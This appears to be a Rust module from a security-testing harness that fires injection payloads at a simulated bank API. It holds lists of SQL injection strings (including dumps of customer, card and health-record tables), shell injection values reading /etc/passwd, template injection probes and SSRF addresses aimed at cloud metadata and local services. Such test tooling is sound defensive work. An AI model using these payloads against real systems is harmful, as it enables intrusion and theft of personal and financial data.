//! Text that becomes something else where it is not kept apart: SQL, shell commands, templates, and addresses to fetch.

use bartizan_model::Timestamp;
use serde_json::json;

use super::{
    attacker::{Attacker, Behaviour, Shot},
    probes::entry,
};
use crate::{label::Kind, request::Answer};

const SQL: [&str; 24] = [
    "x%' UNION SELECT id, username, phone FROM customers --",
    "' OR '1'='1",
    "' OR 1=1 --",
    "'; DROP TABLE notes; --",
    "x' UNION ALL SELECT 1, sql, 3 FROM sqlite_master --",
    "x%' AND (SELECT count(*) FROM customers) > 10 --",
    "' UNION/**/SELECT/**/id,name,email/**/FROM/**/customers--",
    "%' oR 'a' LiKe 'a",
    "x' AND substr((SELECT password_hash FROM customers WHERE id=1),1,1)='s' --",
    "x' AND randomblob(1000) NOT NULL --",
    "1); SELECT pg_sleep(5); --",
    "' UNION SELECT NULL,NULL,NULL --",
    "x%' UNION SELECT id, number, cvv FROM cards --",
    "admin' --",
    "' || (SELECT name FROM customers LIMIT 1) || '",
    "x' AND 1=CAST((SELECT username FROM customers LIMIT 1) AS INT) --",
    "x%' UNION SELECT 1, group_concat(username), 3 FROM customers --",
    "\\' OR 1=1 #",
    "x' AND EXISTS(SELECT 1 FROM health_records WHERE diagnosis LIKE 'F%') --",
    "') OR ('a'='a",
    "x%' ORDER BY 9 --",
    "'/*!50000UNION*/ SELECT 1,2,3 -- -",
    "x%27 UNION SELECT 1,2,3 --",
    "' AND SLEEP(5) AND 'a'='a",
];

const SHELL: [&str; 16] = [
    "x; expr 6 \\* 7 > proof",
    "x && id > who",
    "x | cat /etc/passwd > p",
    "$(id)",
    "`id`",
    "x; ls -la / > l",
    "x\nid > n",
    "x; uname -a > u",
    "x || true",
    "x;cat${IFS}/etc/hosts>h",
    "../x",
    "x & echo done",
    "x; printf 'a' > b #",
    "x>/dev/null;echo 1>one",
    "{cat,/etc/hostname}",
    "x; echo $HOME > home",
];

const TEMPLATES: [&str; 16] = [
    "{{7*7}}",
    "{{7*7}} {{config.secret}}",
    "{{config.seed}}",
    "{{config.reports}}",
    "{{ 7 * 7 + 1 }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{% for x in range(9) %}{{x}}{% endfor %}",
    "{{constructor.constructor('return 1')()}}",
    "*{7*7}",
    "[[${7*7}]]",
    "{{request.application.__globals__}}",
    "@(7*7)",
    "{php}echo 49;{/php}",
];

const ADDRESSES: [&str; 20] = [
    "http://127.0.0.1:9999/",
    "http://169.254.169.254/latest/meta-data/",
    "http://localhost/admin",
    "http://[::1]/",
    "http://0.0.0.0/",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://127.1/",
    "https://127.0.0.1/",
    "https://localhost:9440/",
    "https://metadata.google.internal/computeMetadata/v1/",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_INFO",
    "dict://127.0.0.1:11211/stats",
    "https://bank.example@127.0.0.1/",
    "https://10.0.0.5/",
    "https://192.168.0.1/",
    "https://[::ffff:127.0.0.1]/",
    "http://017700000001/",
    "https://db.internal/",
];

/// Sends one text after the other, in the places where the bank takes text.
#[derive(Default)]
pub struct Injection {
    at: u64,
    /// The webhook that was registered last, to be tested.
    webhook: Option<u64>,
    /// What its test answers.
    tested: u16,
    /// Whether the last request was one that the next has to look at.
    looks: bool,
}

impl Behaviour for Injection {
    fn aim(&mut self, attacker: &mut Attacker, _: Timestamp) -> Option<Shot> {
        if let Some(id) = self.webhook.take() {
            return Some(
                Shot::new("POST", format!("/v1/webhooks/{id}/test")).on("testWebhook").foreseen(self.tested),
            );
        }
        if std::mem::take(&mut self.looks) {
            return Some(Shot::get("/v1/notes").on("listNotes").groundwork());
        }
        let at = self.at;
        self.at += 1;
        Some(match attacker.plan.kind {
            Kind::SqlInjection => sql(attacker, at),
            Kind::ShellInjection => {
                let name = entry(&SHELL, at);
                Shot::new("POST", "/v1/reports").json(&json!({ "name": name })).on("makeReport").foreseen(201)
            }
            Kind::TemplateInjection => {
                self.looks = at % 3 == 2;
                let text = entry(&TEMPLATES, at);
                Shot::new("POST", "/v1/notes").json(&json!({ "text": text })).on("addNote").foreseen(201)
            }
            _ => {
                let url = entry(&ADDRESSES, at);
                // The bank fetches from loopback only; nothing listens there.
                self.tested = if url.starts_with("http://127.0.0.1") { 502 } else { 422 };
                let shot = Shot::new("POST", "/v1/webhooks").json(&json!({ "url": url })).on("addWebhook");
                shot.object(url).foreseen(201)
            }
        })
    }

    fn hear(&mut self, attacker: &mut Attacker, answer: Option<&Answer>, _: Timestamp) {
        if let (Kind::Ssrf, Some(answer)) = (attacker.plan.kind, answer.filter(|answer| answer.status == 201))
        {
            self.webhook = answer.json().and_then(|body| body.get("id")?.as_u64());
        }
    }
}

/// SQL in a query, in a path, and in bodies.
fn sql(attacker: &mut Attacker, at: u64) -> Shot {
    let text = entry(&SQL, at);
    match at % 6 {
        0..=2 => Shot::get(format!("/v1/search?q={}", encoded(text))).on("search"),
        3 => {
            let body = json!({ "username": text, "password": text });
            let shot = Shot::new("POST", "/v1/login").json(&body).on("login").flaw(None);
            shot.anonymous().foreseen(404)
        }
        4 => {
            let account = attacker.account * 2 - 1;
            let body = json!({
                "account": account, "to_iban": crate::words::iban(1), "amount_cents": 1, "text": text,
            });
            Shot::new("POST", "/v1/transfers").json(&body).on("makeTransfer").flaw(None).foreseen(201)
        }
        _ => Shot::get(format!("/v1/accounts/1{}", encoded(text))).on("getAccount").flaw(None).foreseen(500),
    }
}

/// A text in a query or a path: everything but letters and digits encoded (RFC 3986 section 2.1).
fn encoded(text: &str) -> String {
    text.bytes().fold(String::with_capacity(text.len() * 2), |mut out, byte| {
        if byte.is_ascii_alphanumeric() {
            out.push(char::from(byte));
        } else {
            out.push('%');
            for half in [byte >> 4, byte & 15] {
                out.extend(char::from_digit(u32::from(half), 16).map(|digit| digit.to_ascii_uppercase()));
            }
        }
        out
    })
}
